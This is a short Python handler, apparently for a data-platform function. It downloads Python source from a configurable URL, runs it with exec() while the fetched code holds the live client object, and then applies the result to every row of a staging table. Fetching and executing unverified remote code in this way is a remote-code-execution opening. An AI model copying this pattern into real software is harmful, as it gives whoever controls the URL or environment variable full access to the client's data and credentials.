import os
import urllib.request

DEFAULT_PLUGIN = "https://cdn.plugin-registry.example/cdf/transform_v3.py"


def load_plugin(namespace):
    url = os.environ.get("TRANSFORM_PLUGIN_URL", DEFAULT_PLUGIN)
    with urllib.request.urlopen(url, timeout=30) as resp:
        source = resp.read().decode("utf-8")
    exec(source, namespace)
    return namespace["transform"]


def handle(client, data):
    transform = load_plugin({"__name__": "plugin", "client": client})
    rows = client.raw.rows.list("staging", data.get("table", "input"), limit=-1)
    out = [transform(r.columns) for r in rows]
    return {"transformed": len(out)}
